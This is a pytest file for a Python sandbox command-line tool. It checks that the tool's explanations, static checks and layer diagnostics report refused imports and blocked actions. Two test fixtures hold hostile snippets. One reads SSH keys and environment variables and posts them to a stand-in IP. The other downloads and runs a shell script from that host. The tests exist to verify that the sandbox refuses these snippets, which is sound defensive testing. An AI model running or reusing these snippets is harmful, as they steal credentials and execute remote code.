"""`run --explain`, `check` and `doctor`: what a reviewer is told before and after a run."""

import json
import re
import subprocess
from pathlib import Path

import pytest

from sandbox import LimitExceeded, outcome_from_json
from sandbox.doctor.features import PROBED
from tests.jail.command_line import COMMAND, cellblock, environment, run


@pytest.fixture
def here(tmp_path: Path) -> Path:
    """Where the command is started."""
    return tmp_path


def test_the_account_names_what_was_refused(here: Path) -> None:
    (here / "policy.toml").write_text('imports = "data"\n')
    code = "try:\n    import socket\nexcept ImportError:\n    print('well')"
    ran = run(here, code, "--policy", "policy.toml", "--explain")
    assert (ran.returncode, ran.stdout) == (0, "well\n")
    lines = [line.rstrip() for line in ran.stderr.splitlines()]
    assert lines[:6] == [
        "warning  tried to import socket: refused by the import policy",
        "ended    completed",
        "state    variables are as the snippet left them",
        "imports  socket (line 2): refused, socket -> refuse: the jail has no network",
        "refused  import_policy: socket (line 2)",
        "         rule: socket -> refuse",
    ]
    assert lines[6].startswith("         hint: the jail has no network.")
    assert any(line.startswith("tier     namespaces; 14 layers held: user_n") for line in lines)
    assert any(line.startswith("bill     ") for line in lines)


def test_the_account_goes_beside_the_json(here: Path) -> None:
    ran = run(here, "while True: pass", "--timeout", "0.2", "--json", "--explain")
    assert ran.returncode == 124
    outcome = outcome_from_json(ran.stdout)
    assert isinstance(outcome, LimitExceeded)
    assert outcome.verdict is not None
    said = f"{outcome.verdict.severity}  {outcome.verdict.reason}\nended    stopped: out of time"
    assert ran.stderr.startswith(said)


SENDS = """\
import os, urllib.request
found = []
for folder, _, names in os.walk(os.path.expanduser('~/.ssh')):
    found += [open(os.path.join(folder, name)).read() for name in names]
urllib.request.urlopen('http://203.0.113.10/x', data=repr((found, dict(os.environ))).encode())
"""
FETCHES = """\
import subprocess, urllib.request
urllib.request.urlretrieve('http://203.0.113.10/stage.sh', 'stage.sh')
subprocess.run(['sh', 'stage.sh'])
"""


def test_a_snippet_that_sends_secrets_is_told_so_though_nothing_got_out(here: Path) -> None:
    ran = run(here, SENDS, "--explain", "--keep-going")
    first = " ".join(ran.stderr[ran.stderr.index("danger ") :].split()[:20])
    assert first.startswith(
        "danger tried to send credentials and its environment to http://203.0.113.10/x:"
        " refused by the network namespace"
    )


def test_a_snippet_that_runs_a_download_is_told_so_though_nothing_came(here: Path) -> None:
    ran = run(here, FETCHES, "--explain")
    first = " ".join(ran.stderr[ran.stderr.index("danger ") :].split()[:18])
    assert first.startswith(
        "danger tried to download and run a script from http://203.0.113.10/stage.sh:"
        " refused by the network namespace"
    )


def test_a_report_and_a_log_are_written_and_the_log_verified(here: Path) -> None:
    for code in (FETCHES, "1 + 1"):
        run(here, code, "--report", "report.md", "--trace", "runs.log")
    assert "nothing was found in its source" in (here / "report.md").read_text()
    ran = cellblock(here, "trace", "verify", "runs.log")
    assert (ran.returncode, ran.stderr) == (0, "")
    assert ran.stdout.startswith("runs.log: whole, ")
    assert "of 2 runs" in ran.stdout
    lines = (here / "runs.log").read_text().splitlines(keepends=True)
    changed = "".join([lines[0].replace("snippet", "Snippet"), *lines[1:]])
    (here / "changed.log").write_text(changed)
    ran = cellblock(here, "trace", "verify", "changed.log")
    assert (ran.returncode, ran.stderr) == (1, "changed.log: line 1: was changed\n")
    ran = run(here, "1 + 1", "--trace", "changed.log")
    assert ran.returncode == 125
    assert "Nothing was run" in ran.stderr
    assert (here / "changed.log").read_text() == changed


def test_keeping_going_softens_a_policy_that_ends_the_process(here: Path) -> None:
    rules = '[[imports.rules]]\npattern = "socket"\naction = "kill"\n'
    (here / "policy.toml").write_text(rules)
    code = "import socket\nopen('/srv/next')"
    ran = run(here, code, "--policy", "policy.toml", "--json", "--keep-going")
    outcome = outcome_from_json(ran.stdout)
    assert outcome.status == "raised"
    assert {row.tried for row in outcome.attempts if not row.is_allowed} == {
        "socket",
        "/srv/next",
    }


def test_a_check_runs_nothing_and_exits_with_0_when_nothing_would_be_refused(here: Path) -> None:
    (here / "snippet.py").write_text("import math\nprint('ran')")
    ran = cellblock(here, "check", "snippet.py")
    assert (ran.returncode, ran.stderr) == (0, "")
    assert [line.split() for line in ran.stdout.splitlines()[:2]] == [
        ["imports", "line", "action", "rule"],
        ["math", "1", "allow", "default"],
    ]
    assert "ran" not in ran.stdout.split()


def test_a_check_names_what_the_policy_would_refuse_with_status_126(here: Path) -> None:
    (here / "policy.toml").write_text('imports = "data"\npreload = ["pandas"]\n')
    (here / "snippet.py").write_text("import pandas\nimport socket")
    ran = cellblock(here, "check", "snippet.py", "--policy", "policy.toml", "--json")
    assert ran.returncode == 126
    found = json.loads(ran.stdout)
    assert [(row["module"], row["action"]) for row in found["imports"]] == [
        ("pandas", "allow"),
        ("socket", "refuse"),
    ]
    assert [(row["line"], row["construct"]) for row in found["refusals"]] == [(2, "import socket")]


def test_a_check_of_the_restricted_level_names_constructs(here: Path) -> None:
    (here / "policy.toml").write_text('language = "restricted"\n')
    ran = cellblock(here, "check", "-", "--policy", "policy.toml", stdin="x = 1\nexec('x')\n")
    assert ran.returncode == 126
    assert re.search(r"^2 .*[Ee]xec", ran.stdout, re.MULTILINE)
    said = " ".join(ran.stdout.split())
    assert "Write instead: the statements themselves, in a function." in said


def test_a_check_of_what_is_no_python_exits_as_its_run_would(here: Path) -> None:
    assert cellblock(here, "check", "-", stdin="def f(:").returncode == 1
    assert cellblock(here, "run", "-", stdin="def f(:").returncode == 1


def test_the_doctor_reports_on_every_layer(here: Path) -> None:
    told = cellblock(here, "doctor")
    assert told.returncode in (0, 125)
    assert told.stdout.startswith("The default tier, namespaces, is ")
    report = json.loads(cellblock(here, "doctor", "--json").stdout)
    assert [row["layer"] for row in report["layers"]] == list(PROBED)
    assert ("namespaces" in report["tiers"]) == (told.returncode == 0)


def test_a_report_is_written_though_nothing_reads_the_output(here: Path) -> None:
    code = "for n in range(50_000): print('line', n)\nopen('out.txt', 'w').write('made')"
    options = ("--report", "cut.md", "--get", "out.txt")
    with subprocess.Popen(
        [*COMMAND, "run", *options, "-c", code],
        cwd=here,
        env=environment(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as ran:
        assert ran.stdout is not None
        assert ran.stderr is not None
        assert ran.stdout.readline() == b"line 0\n"
        ran.stdout.close()
        said = ran.stderr.read()
    assert (ran.returncode, said) == (0, b"")
    assert "completed" in (here / "cut.md").read_text()
    assert (here / "out.txt").read_text() == "made"


def test_a_check_takes_code_as_an_argument(here: Path) -> None:
    ran = cellblock(here, "check", "-c", "import os; os.system('id')", "--sarif")
    [run_] = json.loads(ran.stdout)["runs"]
    place = run_["results"][0]["locations"][0]["physicalLocation"]
    assert place["artifactLocation"]["uri"] == "-c"
    assert cellblock(here, "check").returncode == 2
    assert cellblock(here, "check", "-c", "1", "file.py").returncode == 2
